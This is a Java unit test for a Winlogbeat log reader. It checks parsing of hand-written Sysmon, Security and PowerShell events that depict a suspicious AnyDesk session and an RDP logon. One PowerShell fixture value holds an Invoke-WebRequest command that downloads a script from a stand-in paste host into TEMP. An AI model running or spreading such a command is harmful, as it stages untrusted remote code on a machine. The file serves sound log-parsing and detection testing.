package dev.unravel.ingest.format.windows;

import static org.assertj.core.api.Assertions.assertThat;

import dev.unravel.core.Event;
import dev.unravel.core.LogSource;
import dev.unravel.ingest.ReaderHarness;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Winlogbeat records written by hand from Winlogbeat's documented output (the Sysmon module's
 * golden files and ingest pipeline in elastic/beats, the winlog exported fields): Sysmon 1, 3 and 13
 * after the module moved their fields into ECS, Security 4624 (security module), a raw 7.x 4688,
 * PowerShell 4104, and a Winlogbeat 6 record.
 */
class WinlogbeatReaderTest {

    private final WinlogbeatReader reader = new WinlogbeatReader();

    static String sample() throws IOException {
        try (InputStream in = WinlogbeatReaderTest.class.getResourceAsStream("/windows/winlogbeat.ndjson")) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    @Test
    void every_hand_written_winlogbeat_record_is_accepted_with_its_logsource_and_type() throws IOException {
        ReaderHarness.Result r = ReaderHarness.read(reader, "winlogbeat.ndjson", sample());
        assertThat(r.records()).isEqualTo(7);
        assertThat(r.errors()).isEmpty();
        assertThat(r.events()).extracting(Event::type).containsExactly("sysmon.1", "sysmon.3", "sysmon.13",
                "security.4624", "security.4688", "powershell.4104", "security.4634");
        assertThat(r.events()).extracting(Event::logSource).containsExactly(
                LogSource.of("windows", "process_creation", "sysmon"),
                LogSource.of("windows", "network_connection", "sysmon"),
                LogSource.of("windows", "registry_set", "sysmon"),
                LogSource.of("windows", null, "security"),
                LogSource.of("windows", "process_creation", "security"),
                LogSource.of("windows", "ps_script", "powershell"),
                LogSource.of("windows", null, "security"));
        assertThat(r.events()).extracting(Event::source).containsOnly("windows");
        assertThat(r.events()).extracting(Event::host).containsOnly("LT-0042.corp.northwind.example");
    }

    @Test
    void sysmon_fields_the_module_moved_into_ecs_come_back_under_their_sysmon_names() throws IOException {
        List<Event> events = ReaderHarness.read(reader, "winlogbeat.ndjson", sample()).events();
        Event proc = events.get(0);
        assertThat(proc.time()).isEqualTo(Instant.parse("2026-03-03T01:12:44.120Z"));
        assertThat(proc.user()).isEqualTo("NORTHWIND\\jkim");
        Map<String, Object> doc = proc.document();
        assertThat(doc)
                .containsEntry("EventID", 1)
                .containsEntry("Channel", "Microsoft-Windows-Sysmon/Operational")
                .containsEntry("Computer", "LT-0042.corp.northwind.example")
                .containsEntry("Provider_Name", "Microsoft-Windows-Sysmon")
                .containsEntry("Provider_Guid", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}")
                .containsEntry("EventRecordID", "48211")
                .containsEntry("ProcessID", 3208).containsEntry("ThreadID", 1724)
                .containsEntry("UserID", "S-1-5-18")
                .containsEntry("Image", "C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe")
                .containsEntry("CommandLine", "\"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe\" --control")
                .containsEntry("ParentImage", "C:\\Windows\\explorer.exe")
                .containsEntry("ParentCommandLine", "C:\\Windows\\Explorer.EXE")
                .containsEntry("ProcessId", 7716).containsEntry("ParentProcessId", 5112)
                .containsEntry("ProcessGuid", "{0197231E-C424-69E1-C922-000000000800}")
                .containsEntry("CurrentDirectory", "C:\\Program Files (x86)\\AnyDesk\\")
                .containsEntry("OriginalFileName", "AnyDesk.exe")
                .containsEntry("User", "NORTHWIND\\jkim")
                .containsEntry("IntegrityLevel", "Medium")
                .containsEntry("Hashes", "MD5=0B1A2C3D4E5F60718293A4B5C6D7E8F9,"
                        + "SHA256=4A4B4C4D4E4F505152535455565758595A5B5C5D5E5F606162636465666768FF,"
                        + "IMPHASH=AA1122BB3344CC5566DD7788EE9900FF");

        Event net = events.get(1);
        assertThat(net.sourceIp()).isEqualTo("10.20.4.17");
        assertThat(net.document()).containsEntry("DestinationIp", "195.181.174.1").containsEntry("DestinationPort", 443)
                .containsEntry("DestinationHostname", "relay-5a1b2c3d.net.anydesk.com")
                .containsEntry("Initiated", "true").containsEntry("Protocol", "tcp")
                .containsEntry("SourcePort", 50122).containsEntry("Image", "C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe");

        Event reg = events.get(2);
        assertThat(reg.document()).containsEntry("TargetObject", "HKLM\\System\\CurrentControlSet\\Services\\AnyDesk\\Start")
                .containsEntry("Details", "DWORD (0x00000001)").containsEntry("RuleName", "T1031,T1050")
                .containsEntry("EventType", "SetValue");
    }

    @Test
    void security_and_powershell_events_keep_their_event_data_and_name_the_acting_user() throws IOException {
        List<Event> events = ReaderHarness.read(reader, "winlogbeat.ndjson", sample()).events();
        Event logon = events.get(3);
        assertThat(logon.user()).isEqualTo("NORTHWIND\\jkim");
        assertThat(logon.sourceIp()).isEqualTo("203.0.113.77");
        assertThat(logon.document()).containsEntry("LogonType", "10").containsEntry("Keywords", List.of("Audit Success"))
                .doesNotContainKey("Image");
        Event proc = events.get(4);
        assertThat(proc.document()).containsEntry("Image", "C:\\Windows\\System32\\whoami.exe")
                .containsEntry("ParentImage", "C:\\Windows\\System32\\cmd.exe").containsEntry("IntegrityLevel", "High")
                .containsEntry("User", "NORTHWIND\\jkim").containsEntry("EventID", 4688);
        Event ps = events.get(5);
        assertThat(ps.document()).containsEntry("ScriptBlockText",
                "Invoke-WebRequest -Uri https://paste.example/raw/x -OutFile $env:TEMP\\j.ps1");
        Event legacy = events.get(6);
        assertThat(legacy.time()).isEqualTo(Instant.parse("2026-03-03T01:30:00Z"));
        assertThat(legacy.user()).isEqualTo("NORTHWIND\\jkim");
        assertThat(legacy.document()).containsEntry("Provider_Name", "Microsoft-Windows-Security-Auditing")
                .containsEntry("EventRecordID", "90244").containsEntry("ProcessID", 748);
    }

    @Test
    void near_misses_are_rejected_with_the_field_named() {
        String text = """
                {"winlog":{"channel":"Security","event_id":"4624","computer_name":"LT-1"}}
                {"@timestamp":"2026-03-03T01:30:00Z","winlog":{"channel":"Security","computer_name":"LT-1"}}
                {"@timestamp":"2026-03-03T01:30:00Z","winlog":{"channel":"Security","event_id":"4624x"}}
                {"@timestamp":"not a time","winlog":{"channel":"Security","event_id":4624}}
                {"@timestamp":"2026-03-03T01:30:00Z","winlog":"Security"}
                {"@timestamp":"2026-03-03T01:30:00Z","winlog":{"event_id":1,"event_data":["a"]}}
                {"@timestamp":"2026-03-03T01:30:00Z","message":"hello"}
                """;
        ReaderHarness.Result r = ReaderHarness.read(reader, "wlb.json", text);
        assertThat(r.records()).isEqualTo(7);
        assertThat(r.events()).isEmpty();
        assertThat(r.errors()).extracting(x -> x.field() + ": " + x.reason()).containsExactly(
                "@timestamp: is missing: the record has no timestamp",
                "winlog.event_id: is missing",
                "winlog.event_id: is not an event id: \"4624x\"",
                "@timestamp: is not a timestamp: \"not a time\"",
                "winlog: is not an object: \"Security\"",
                "winlog.event_data: is not an object: [a]",
                "winlog: is missing: not a Winlogbeat record");
    }

    @Test
    void probe_tells_winlogbeat_from_evtx_json() throws IOException {
        assertThat(reader.probe(EndpointProbes.sample("w.json", sample()))).isGreaterThanOrEqualTo(90);
        assertThat(reader.probe(EndpointProbes.sample("s.json", EvtxJsonReaderTest.SYSMON_1))).isZero();
        assertThat(new EvtxJsonReader().probe(EndpointProbes.sample("w.json", sample()))).isZero();
    }
}
